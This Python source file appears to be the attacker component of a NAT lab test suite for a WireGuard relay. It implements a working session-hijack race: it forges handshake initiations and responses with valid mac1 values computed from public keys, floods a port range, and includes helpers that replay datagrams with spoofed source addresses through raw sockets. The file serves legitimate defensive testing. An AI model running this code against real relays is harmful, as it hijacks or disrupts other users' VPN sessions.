"""attacker: what the NAT lab's attacker host does (tests/e2e/test_attacker.py).

The attacker knows every peer's WireGuard public key, the server's public key and the
node's addresses; it holds no secret and sees no traffic but what reaches its own
addresses.  Python standard library only: WireGuard's mac1 is a keyed BLAKE2s
(hashlib), and the relay only ever checks mac1.  The floods that need X25519 and sealed
envelopes, or rates Python cannot reach, are `relay-attack` (attacker_tool.cpp).

    python3 attacker.py hijack --relay IP --ports LO-HI --key-a B64 --key-b B64
                               --bind IP --seconds S [--interval-ms MS]

hijack: races the real peers A and B for their relay session.  Every INTERVAL it sends,
to every port of LO-HI, a handshake initiation "from A" (mac1 under B's key, so that the
relay takes the attacker for A) and one "from B"; it answers every initiation the relay
forwards to it with a response whose mac1 and receiver index are right, from the address
the initiation reached, as a peer confirming the latch would.  It prints one JSON line
when done (after --seconds, or at once on SIGTERM): what it sent, and every datagram
that reached it by source and type.
"""

from __future__ import annotations

import argparse
import base64
import hashlib
import json
import os
import select
import signal
import socket
import struct
import sys
import time
from typing import Dict, List, Optional, Tuple

INITIATION_LEN = 148
RESPONSE_LEN = 92
INITIATION_MAC1 = 116   # mac1 covers bytes [0, 116)
RESPONSE_MAC1 = 60      # mac1 covers bytes [0, 60)
MAC_LEN = 16


def mac1_key(receiver_public_key: bytes) -> bytes:
    """BLAKE2s-256("mac1----" || the receiver's public key)."""
    return hashlib.blake2s(b"mac1----" + receiver_public_key).digest()


def mac1(key: bytes, covered: bytes) -> bytes:
    """Keyed BLAKE2s-128 over the message bytes before mac1."""
    return hashlib.blake2s(covered, key=key, digest_size=MAC_LEN).digest()


def initiation(receiver_public_key: bytes, sender_index: int) -> bytes:
    """A type-1 message as WireGuard lays it out, whose mac1 verifies under the
    receiver's key; the ephemeral key, static and timestamp are random (the attacker
    has no key to make them right), mac2 is zero (no cookie)."""
    head = struct.pack("<II", 1, sender_index) + os.urandom(INITIATION_MAC1 - 8)
    return head + mac1(mac1_key(receiver_public_key), head) + bytes(MAC_LEN)


def response(receiver_public_key: bytes, sender_index: int, receiver_index: int) -> bytes:
    """A type-2 message answering the initiation whose sender index is RECEIVER_INDEX,
    mac1 under the initiator's key (the response goes to the initiator)."""
    head = struct.pack("<III", 2, sender_index, receiver_index) + os.urandom(RESPONSE_MAC1 - 12)
    return head + mac1(mac1_key(receiver_public_key), head) + bytes(MAC_LEN)


def verifies(message: bytes, mac1_at: int, receiver_public_key: bytes) -> bool:
    return mac1(mac1_key(receiver_public_key), message[:mac1_at]) == \
        message[mac1_at:mac1_at + MAC_LEN]


def parse_ports(text: str) -> List[int]:
    lo, _, hi = text.partition("-")
    return list(range(int(lo), int(hi or lo) + 1))


def hijack(relay: str, ports: List[int], key_a: bytes, key_b: bytes, bind: str,
           seconds: float, interval: float) -> dict:
    """The race described in the module's docstring; returns its record."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 20)
    sock.bind((bind, 0))
    sock.setblocking(False)
    names = {key_a: "A", key_b: "B"}
    stop = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))
    # A pool of initiations per direction, used in turn (sender indexes vary): making
    # them costs more than sending them.
    pool = [(initiation(key_b, int.from_bytes(os.urandom(4), "little")),
             initiation(key_a, int.from_bytes(os.urandom(4), "little"))) for _ in range(64)]
    rounds = 0
    sent = {"initiations": 0, "responses": 0, "errors": 0}
    got: Dict[str, int] = {}           # "type N from relay port" counts, by kind
    forwarded: List[dict] = []         # the initiations forwarded to us (first 20)
    answered = 0
    end = time.monotonic() + seconds
    next_round = time.monotonic()

    def send(data: bytes, to: Tuple[str, int], what: str) -> None:
        try:
            sock.sendto(data, to)
            sent[what] += 1
        except OSError:
            sent["errors"] += 1

    while time.monotonic() < end and not stop:
        now = time.monotonic()
        if now >= next_round:
            next_round = now + interval
            as_a, as_b = pool[rounds % len(pool)]
            rounds += 1
            for port in ports:
                # "From A" is an initiation to B: mac1 under B's key, and the other way.
                send(as_a, (relay, port), "initiations")
                send(as_b, (relay, port), "initiations")
        try:
            select.select([sock], [], [], max(0.0, min(next_round, end) - time.monotonic()))
        except InterruptedError:
            pass
        while True:
            try:
                data, src = sock.recvfrom(2048)
            except (BlockingIOError, InterruptedError):
                break
            kind = f"type{data[0]}_len{len(data)}" if data else "empty"
            key = f"{src[0]}:{kind}"
            got[key] = got.get(key, 0) + 1
            if len(data) != INITIATION_LEN or data[:4] != b"\x01\x00\x00\x00":
                continue
            # Someone's real initiation, forwarded to us as if we were the other side.
            to = next((k for k in (key_a, key_b) if verifies(data, INITIATION_MAC1, k)), None)
            if to is None:
                continue
            initiator = key_b if to == key_a else key_a
            their_index = struct.unpack("<I", data[4:8])[0]
            if len(forwarded) < 20:
                forwarded.append({"from": f"{src[0]}:{src[1]}", "initiator": names[initiator],
                                  "sender_index": their_index})
            send(response(initiator, int.from_bytes(os.urandom(4), "little"), their_index),
                 src, "responses")
            answered += 1
    sock.close()
    return {"attack": "hijack", "ports": len(ports), "interval_s": interval, "rounds": rounds,
            "sent": sent,
            "received": got, "received_total": sum(got.values()),
            "initiations_answered": answered, "forwarded_initiations": forwarded}


# --------------------------------------------------------------------------
# Replays

def ipv4_udp(src: Tuple[str, int], dst: Tuple[str, int], payload: bytes) -> bytes:
    """An IPv4/UDP datagram with any source (for a raw socket): the header checksum is
    the kernel's (IP_HDRINCL fills it), the UDP checksum 0 (none, allowed in IPv4)."""
    udp = struct.pack(">HHHH", src[1], dst[1], 8 + len(payload), 0) + payload
    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0x4000, 64, 17, 0,
                     socket.inet_aton(src[0]), socket.inet_aton(dst[0]))
    return ip + udp


def replay_from(sock: socket.socket, datagrams: List[Tuple[bytes, Tuple[str, int]]]) -> int:
    """Send each (payload, destination) again from SOCK (a UDP socket of the attacker)."""
    for payload, dst in datagrams:
        sock.sendto(payload, dst)
    return len(datagrams)


def replay_spoofed(raw: socket.socket,
                   datagrams: List[Tuple[bytes, Tuple[str, int], Tuple[str, int]]]) -> int:
    """Send each (payload, source, destination) again with its original SOURCE address
    and port, through RAW (socket(AF_INET, SOCK_RAW, IPPROTO_RAW))."""
    for payload, src, dst in datagrams:
        raw.sendto(ipv4_udp(src, dst, payload), (dst[0], 0))
    return len(datagrams)


def main(argv: Optional[List[str]] = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    sub = ap.add_subparsers(dest="cmd", required=True)
    h = sub.add_parser("hijack")
    h.add_argument("--relay", required=True)
    h.add_argument("--ports", required=True, help="LO-HI")
    h.add_argument("--key-a", required=True)
    h.add_argument("--key-b", required=True)
    h.add_argument("--bind", required=True)
    h.add_argument("--seconds", type=float, required=True)
    h.add_argument("--interval-ms", type=float, default=50)
    args = ap.parse_args(argv)
    record = hijack(args.relay, parse_ports(args.ports), base64.b64decode(args.key_a),
                    base64.b64decode(args.key_b), args.bind, args.seconds,
                    args.interval_ms / 1000)
    print(json.dumps(record), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
